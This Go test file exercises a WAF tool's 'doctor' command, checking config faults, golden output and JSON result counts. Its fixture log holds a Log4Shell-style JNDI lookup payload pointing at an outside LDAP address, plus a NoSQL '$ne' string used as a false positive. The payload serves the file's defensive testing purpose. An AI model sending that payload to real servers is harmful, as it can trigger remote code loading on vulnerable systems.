package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/fluent-bit-waf/fluent-bit-waf/cmd/wafctl/internal/cli"
	"github.com/fluent-bit-waf/fluent-bit-waf/internal/fluentbit"
)

// patient writes a pipeline with some faults, and a log with a false positive, an attack and clean requests.
func patient(t *testing.T) (dir string) {
	t.Helper()
	dir = t.TempDir()
	log := strings.Repeat(`198.51.100.7 - - [29/Nov/2026:11:59:00 +0000] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0"`+"\n", 8) +
		`198.51.100.8 - - [29/Nov/2026:11:59:00 +0000] "GET /?filter=$ne HTTP/1.1" 200 612 "-" "Mozilla/5.0"` + "\n" +
		`198.51.100.9 - - [29/Nov/2026:11:59:00 +0000] "GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1" 200 612 "-" "Mozilla/5.0"` + "\n"
	written := time.Date(2026, 11, 29, 11, 59, 0, 0, time.UTC)
	require.NoError(t, os.WriteFile(filepath.Join(dir, "access.log"), []byte(log), 0o644))
	require.NoError(t, os.Chtimes(filepath.Join(dir, "access.log"), written, written))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "waf.conf"), []byte(`[INPUT]
    Name            tail
    Tag             access
    Path            access.log
    DB              waf.db
    Skip_Long_Lines On

[FILTER]
    Name              waf
    Match             access
    Emit_Tag          alert.$TAG

[OUTPUT]
    Name     stdout
    Match    alerts.*

[OUTPUT]
    Name     waf
    Match    access
    Alert_To gelf+udp://127.0.0.1,file:///nowhere/alerts
    Workers  1
    Blocking_Paranoia 7
`), 0o644))
	return dir
}

// openFiles is the limit of the machine that the test runs on.
var openFiles = regexp.MustCompile(`the limit here is \d+;`)

func TestDoctorFindsWhatIsWrong(t *testing.T) {
	here, err := os.Getwd()
	require.NoError(t, err)
	t.Setenv("PATH", "")
	t.Chdir(patient(t))
	got := wafctl(nil, func(c *cli.Console) { c.Width = 80 }, "doctor", "waf.conf")
	asJSON := wafctl(nil, nil, "doctor", "--output", "json", "waf.conf")
	t.Chdir(here)
	require.Equal(t, cli.ExitError, got.code, got.err)
	require.Empty(t, got.err, "all is in the list")
	for line := range strings.Lines(got.out) {
		require.LessOrEqual(t, len([]rune(line)), 81, line)
	}
	shown := openFiles.ReplaceAllString(got.out, "the limit here is 1024;")
	golden(t, "doctor.txt", shown)
	page, err := os.ReadFile(filepath.Join(docs, "wafctl.md"))
	require.NoError(t, err)
	require.Contains(t, string(page), shown, "the page shows what the command prints")

	require.Equal(t, cli.ExitError, asJSON.code)
	levels := map[string]int{}
	for line := range strings.Lines(asJSON.out) {
		var f struct{ Check, Level, Text string }
		require.NoError(t, json.Unmarshal([]byte(line), &f))
		require.NotEmpty(t, f.Check)
		require.NotEmpty(t, f.Text)
		levels[f.Level]++
	}
	require.Equal(t, map[string]int{"ok": 6, "warn": 3, "fail": 4}, levels, asJSON.out)
}

func TestDoctorIsContentWithWhatInitWrites(t *testing.T) {
	inDir(t, "access.log", `198.51.100.7 - - [`+time.Now().Format("02/Jan/2006:15:04:05 -0700")+`] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0"`+"\n")
	host := filepath.Join(t.TempDir(), "fluent-bit")
	require.NoError(t, os.WriteFile(host, []byte("#!/bin/sh\necho 'Fluent Bit v5.1.1'\n"), 0o755))
	require.NoError(t, os.WriteFile("out_waf.so", nil, 0o644))
	got := wafctl(nil, nil, "init", "-o", "waf.yaml", "--host", "shop.example", "--plugin", "out_waf.so", "access.log")
	require.Equal(t, cli.ExitClean, got.code, got.err)
	got = wafctl(nil, nil, "doctor", "--fluent-bit", host, "waf.yaml")
	require.Equal(t, cli.ExitClean, got.code, got.out)
	require.Contains(t, got.out, "0 warnings, 0 failed")
}

func TestDoctorReadsWhatIsShipped(t *testing.T) {
	t.Setenv("PATH", "")
	for _, pattern := range []string{"../../conf/*.yaml", "../../conf/logs/*.yaml", "../../conf/nano*.conf"} {
		files, err := filepath.Glob(pattern)
		require.NoError(t, err)
		require.NotEmpty(t, files)
		for _, path := range files {
			c, err := fluentbit.Read(path)
			require.NoError(t, err, path)
			require.Empty(t, c.Misuses(), path)
		}
	}
}

func TestDoctorExplainsWhatItCannotRead(t *testing.T) {
	for want, args := range map[string][]string{
		"want one pipeline": nil,
		"no such file":      {"missing.yaml"},
		"--output: unknown": {"--output", "xml", "a", "b"},
	} {
		got := wafctl(nil, nil, append([]string{"doctor"}, args...)...)
		require.Equal(t, cli.ExitError, got.code)
		require.Contains(t, got.err, want)
	}
}
